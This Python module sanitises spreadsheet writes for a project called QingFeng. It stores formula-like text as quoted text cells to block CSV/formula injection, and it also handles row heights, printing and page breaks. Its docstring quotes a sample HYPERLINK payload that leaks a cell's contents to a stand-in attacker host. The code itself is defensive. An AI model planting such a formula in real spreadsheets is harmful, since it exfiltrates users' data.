"""The one door through which QingFeng writes .xlsx files, so that no cell is a formula nobody wrote.

openpyxl stores any text beginning with "=" as a formula, and Excel and LibreOffice read text
beginning with +, -, @, a tab or a carriage return as one once it is edited or pasted (OWASP, CSV
injection): a measure typed as =HYPERLINK("http://evil.example/?x="&C3,"佐证") became a live link
sending the next cell away. Such text is written here as a text cell (never a formula) with
Excel's quote prefix, which is what typing ' before it in Excel stores: the cell shows exactly what
the user typed, Excel's formula bar shows it after a ', and editing it there keeps it text. Numbers
and dates are written as they are; only text is ever neutralised.

Every workbook is made by `new_workbook` and every value goes in through `append`, `put` or
`write`; core/tests/test_spreadsheets.py fails on any other way in.

A sheet meant for paper also gets its row heights from `block_heights` (Excel, WPS and LibreOffice
never fit a merged cell to its text, which then prints over the rows below), its page from
`set_up_printing` and its page breaks from `PageBreaks`.
"""

import datetime
import math
import re
from copy import copy

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.page import PageMargins
from openpyxl.worksheet.pagebreak import Break
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Date cells stay dates (sortable, filterable) but read as on paper: 2026年10月17日.
DATE_NUMBER_FORMAT = 'yyyy"年"m"月"d"日"'
DATETIME_NUMBER_FORMAT = 'yyyy"年"m"月"d"日" hh:mm'

# Row heights, in points, for wrapped text. A column's width unit is one digit of the default font,
# about half a CJK character at 10 pt. A line of 10-pt 宋体 is 13.5 pt in Excel; LibreOffice's
# fallback CJK font (Noto Sans CJK) took 13.9 pt in a printed ledger, so a line is given 1.5 times the font size.
LINE_SPACING = 1.5
ROW_PADDING = 4  # above and below the text, so the borders do not touch it
CELL_PADDING = 1  # width units a cell loses to its inner margins
MAX_ROW_HEIGHT = 409  # Excel's limit
# Inches. The footer sits `footer` from the paper's edge, the table ends `bottom` from it: the
# footer's line (about 0.2 in) fits between them.
MARGINS = PageMargins(left=0.4, right=0.4, top=0.6, bottom=0.75, header=0.3, footer=0.3)
A4_LANDSCAPE = (11.69, 8.27)  # inches
# A Latin word (letters, digits, punctuation) wraps whole; spaces; a run of anything else (CJK) breaks anywhere.
WRAP_TOKEN = re.compile(r"[!-~]+|[ \t\r]+|[^!-~ \t\r]+")


def new_workbook(write_only: bool = False) -> Workbook:
    """An empty workbook; write-only ones stream each row to disk as it is appended."""
    return Workbook(write_only=write_only)


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def write(cell: Cell, value) -> Cell:
    """Give `cell` the value `value`, text that could start a formula as plain text."""
    cell.value = value
    quoted = looks_like_formula(value)
    if quoted:
        cell.data_type = "s"  # openpyxl made "=..." a formula
    if quoted != cell.quotePrefix:
        # A write-only row reuses one cell per column, and the workbook keeps the style array
        # of every cell already written: flip the prefix on a copy, never on the shared array.
        cell._style = copy(cell._style)
        cell.quotePrefix = quoted
    if isinstance(value, datetime.date):
        shown = DATETIME_NUMBER_FORMAT if isinstance(value, datetime.datetime) else DATE_NUMBER_FORMAT
    else:  # a reused write-only cell that held a date last row must not show this number as one
        shown = "General" if cell.number_format in (DATE_NUMBER_FORMAT, DATETIME_NUMBER_FORMAT) else None
    if shown and cell.number_format != shown:
        cell._style = copy(cell._style)  # as above: never change a style array already written
        cell.number_format = shown
    return cell


def new_cell(ws, style: str | None = None) -> Cell:
    """A cell, with a named style, for `append(ws, values, cells=...)`."""
    cell = WriteOnlyCell(ws)
    if style:
        cell.style = style
    return cell


def append(ws, values, cells=None, height: float | None = None) -> None:
    """Add a row of `values` below the last one, `height` points tall if given.

    With `cells` (one per value, from `new_cell`) the values are written into those styled cells;
    a write-only sheet writes the row at once, so the same cells serve every row.
    """
    if cells is None:
        row = [write(WriteOnlyCell(ws), value) if looks_like_formula(value) or isinstance(value, datetime.date)
               else value for value in values]
    else:
        row = [write(cell, value) for cell, value in zip(cells, values, strict=True)]
    streamed = isinstance(ws, WriteOnlyWorksheet)
    # A write-only sheet does not count its rows; every row comes through here, so count them.
    index = (ws.__dict__.get("qf_rows", 0) if streamed else ws._current_row) + 1
    if height is not None:
        ws.row_dimensions[index].height = round(height, 2)
    ws.append(row)
    if streamed:
        ws.qf_rows = index
        ws.row_dimensions.pop(index, None)  # written with its row: memory stays flat over 100,000 rows


def text_width(text: str) -> int:
    """Width in column units: ASCII one, anything else two (CJK, full-width punctuation; a narrow
    non-ASCII letter is rare in a ledger and only makes the row a little taller)."""
    return 2 * len(text) - len(text.encode("ascii", "ignore"))


def wrapped_lines(value, width: float) -> int:
    """How many lines `value` takes in a wrapped cell `width` units wide, its newlines counted."""
    room = max(int(width - CELL_PADDING), 2)
    text = "" if value is None else str(value)
    if 2 * len(text) <= room and "\n" not in text:
        return 1  # most cells: a name, a date, a short measure
    per_line = room // 2  # wide characters
    lines = 0
    # Counted run by run, not character by character: 100,000 rows of 12 cells are measured in seconds.
    for paragraph in text.split("\n"):
        lines += 1
        if 2 * len(paragraph) <= room:
            continue
        used = 0
        for token in WRAP_TOKEN.findall(paragraph):
            size = len(token)
            if token[0] in " \t\r":  # spaces that reach the line's end vanish there
                if used + size > room:
                    lines += used > 0
                    used = 0
                else:
                    used += size
            elif token[0] <= "~":  # a Latin word: whole on a line if it fits one, else cut
                if used and used + size > room:
                    lines += 1
                    used = 0
                lines += (used + size - 1) // room
                used = (used + size - 1) % room + 1
            else:  # wide characters: any of them may start a line
                fit = (room - used) // 2
                if size > fit:
                    lines += 1 + (size - fit - 1) // per_line
                    used = 2 * ((size - fit - 1) % per_line + 1)
                else:
                    used += 2 * size
    return lines


def text_height(value, width: float, font_size: float) -> float:
    """Points a wrapped cell of `width` units needs to show all of `value` at `font_size`."""
    return wrapped_lines(value, width) * font_size * LINE_SPACING + ROW_PADDING


def block_heights(rows, widths, font_size: float, merged=()) -> list[float]:
    """Heights of consecutive `rows` whose columns in `merged` hold one value (in the first row) over all.

    Each row is as tall as its tallest unmerged cell; when a merged cell needs more than the rows
    give together, what is missing is spread evenly over the rows it spans.
    """
    heights = [max([text_height(value, widths[column], font_size)
                     for column, value in enumerate(row) if column not in merged] or [0]) for row in rows]
    needed = max((text_height(rows[0][column], widths[column], font_size) for column in merged), default=0)
    missing = needed - sum(heights)
    if missing > 0:
        heights = [height + missing / len(heights) for height in heights]
    return [min(height, MAX_ROW_HEIGHT) for height in heights]


def set_up_printing(ws, widths, title_rows: str, footer: str = "第 &P 页 共 &N 页") -> None:
    """Column `widths`; A4 landscape, as wide as the page; rows `title_rows` ("2:2") on every page;
    `footer` (&P the page, &N the pages) centred at the foot, inside the bottom margin."""
    for index, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(index)].width = width
    ws.print_title_rows = title_rows
    ws.page_setup.orientation = Worksheet.ORIENTATION_LANDSCAPE
    ws.page_setup.paperSize = Worksheet.PAPERSIZE_A4
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0  # as many pages down as it takes
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_margins = MARGINS
    ws.print_options.horizontalCentered = True
    ws.oddFooter.center.text = footer
    ws.oddFooter.center.size = 9


def put(ws, row: int, column: int, value) -> Cell:
    """Set one cell of an ordinary (not write-only) sheet; returns it for styling."""
    return write(ws.cell(row=row, column=column), value)


class PageBreaks:
    """Page breaks between blocks of rows (rows that share merged cells), so that no block is split.

    A merged cell split by a page break is printed on both pages, each time cut. The page's height
    in sheet points is estimated as Excel scales a sheet set up by `set_up_printing` to the page's
    width (a column `w` units wide is 7w + 5 pixels); LibreOffice scales it less and so has room
    to spare. A block taller than a page starts on a page of its own.
    """

    SAFETY = 0.95  # rows drawn a little taller than asked, rounding of the scale

    def __init__(self, ws, widths, repeated: float, first_page_extra: float = 0):
        """`repeated`: points of the title rows printed on every page; `first_page_extra`: rows above them."""
        paper_width, paper_height = A4_LANDSCAPE
        printable_width = (paper_width - MARGINS.left - MARGINS.right) * 72
        printable_height = (paper_height - MARGINS.top - MARGINS.bottom) * 72
        sheet_width = sum(7 * width + 5 for width in widths) * 0.75
        scale = min(1, math.floor(100 * printable_width / sheet_width) / 100)
        self.ws = ws
        self.room = printable_height / scale * self.SAFETY - repeated
        self.used = first_page_extra

    def add(self, first_row: int, heights) -> None:
        """The block of rows from `first_row`, of these `heights`, comes next."""
        block = sum(heights)
        if self.used and self.used + block > self.room:
            self.ws.row_breaks.append(Break(id=first_row - 1))
            self.used = 0
        self.used = (self.used + block) % self.room if block > self.room else self.used + block
